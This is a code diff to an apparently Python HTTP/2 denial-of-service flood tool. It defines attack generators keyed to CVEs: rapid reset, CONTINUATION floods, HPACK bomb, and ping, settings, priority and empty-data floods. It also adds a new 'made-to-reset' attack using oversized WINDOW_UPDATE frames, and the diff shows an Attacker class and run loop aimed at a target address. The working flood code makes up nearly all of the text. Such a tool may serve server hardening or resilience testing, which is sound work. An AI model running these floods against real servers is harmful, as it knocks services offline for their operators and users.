@@ -8,7 +8,6 @@ import contextlib
 import itertools
 import json
 import os
-import select
 import sys
 import time
 from collections.abc import Callable, Iterator
@@ -49,10 +48,10 @@ class Flood:
 
 
 def rapid_reset(wire: Wire, path: str) -> Bursts:
-    """Begin 20 calls, and reset each at once: CVE-2023-44487."""
+    """Begin 10 calls, and reset each at once: CVE-2023-44487."""
     while True:
         burst: list[Frame | bytes] = []
-        for _ in range(20):
+        for _ in range(10):
             frames = wire.call_frames(path, message=MESSAGE)
             burst += [*frames, RstStreamFrame(frames[0].stream_id, CANCEL)]
         yield burst
@@ -75,12 +74,12 @@ def continuation(wire: Wire, path: str) -> Bursts:
 
 
 def empty_continuation(wire: Wire, path: str) -> Bursts:
-    """Do so with 200 frames that are empty."""
+    """Do so with 50 frames that are empty."""
     [headers] = wire.header_frames(1, request_headers(path))
     headers.flags.discard("END_HEADERS")
     yield [headers]
     while True:
-        yield [ContinuationFrame(1, b"")] * 200
+        yield [ContinuationFrame(1, b"")] * 50
 
 
 def hpack_bomb(wire: Wire, path: str) -> Bursts:
@@ -95,30 +94,40 @@ def hpack_bomb(wire: Wire, path: str) -> Bursts:
         yield [*frames]
 
 
-def pings(_wire: Wire, _path: str) -> Bursts:
-    """Ask for 200 answers to pings: CVE-2019-9512."""
+def made_to_reset(wire: Wire, path: str) -> Bursts:
+    """Begin 10 calls, and break each so that the server resets it: CVE-2025-8671."""
     while True:
-        yield [PingFrame(0, b"12345678")] * 200
+        burst: list[Frame | bytes] = []
+        for _ in range(10):
+            frames = wire.call_frames(path, message=MESSAGE)
+            burst += [*frames, WindowUpdateFrame(frames[0].stream_id, window_increment=2**31 - 1)]
+        yield burst
+
+
+def pings(_wire: Wire, _path: str) -> Bursts:
+    """Ask for 50 answers to pings: CVE-2019-9512."""
+    while True:
+        yield [PingFrame(0, b"12345678")] * 50
 
 
 def settings(_wire: Wire, _path: str) -> Bursts:
-    """Send 200 settings, each of which wants to be acknowledged: CVE-2019-9515."""
+    """Send 50 settings, each of which wants to be acknowledged: CVE-2019-9515."""
     while True:
-        yield [SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0})] * 200
+        yield [SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0})] * 50
 
 
 def priorities(_wire: Wire, _path: str) -> Bursts:
-    """Move 200 streams that there are not to another place: CVE-2019-9513."""
+    """Move 50 streams that there are not to another place: CVE-2019-9513."""
     streams = itertools.cycle(range(1, 20_001, 2))
     while True:
-        yield [PriorityFrame(next(streams), depends_on=0, stream_weight=7) for _ in range(200)]
+        yield [PriorityFrame(next(streams), depends_on=0, stream_weight=7) for _ in range(50)]
 
 
 def empty_data(wire: Wire, path: str) -> Bursts:
-    """Send 200 frames of data with nothing in them, on a call that does not end: CVE-2019-9518."""
+    """Send 50 frames of data with nothing in them, on a call that does not end: CVE-2019-9518."""
     stream = wire.call(path, message=None, end=False)
     while True:
-        yield [DataFrame(stream, b"")] * 200
+        yield [DataFrame(stream, b"")] * 50
 
 
 def zero_window(wire: Wire, path: str) -> Bursts:
@@ -154,6 +163,7 @@ def slow_preface(_wire: Wire, _path: str) -> Bursts:
 FLOODS = {
     "rapid-reset": Flood(rapid_reset),
     "rapid-reset-unknown": Flood(rapid_reset_of_unknown_methods),
+    "made-to-reset": Flood(made_to_reset),
     "continuation": Flood(continuation),
     "empty-continuation": Flood(empty_continuation),
     "hpack-bomb": Flood(hpack_bomb),
@@ -193,7 +203,7 @@ class Attacker:
             self._wire.send(*next(self._bursts))
             self.bursts += 1
             if self._flood.reads:
-                discard(self._wire)
+                self._wire.receive_what_came()
         except (StopIteration, OSError):
             self._ends.close()
             self._bursts = None
@@ -210,13 +220,6 @@ def run(flood: Flood, address: str, path: str, seconds: float) -> dict[str, int]
         time.sleep(max(0.0, due - time.monotonic()))
         attacker.act()
     return {name: sum(getattr(attacker, name) for attacker in attackers) for name in ("connections", "bursts")}
-
-
-def discard(wire: Wire) -> None:
-    """Read what has come, and forget it; ConnectionError if the server has closed the connection."""
-    while select.select([wire.socket], [], [], 0)[0]:
-        if not wire.socket.recv(2**16):
-            raise ConnectionError
 
 
 if __name__ == "__main__":
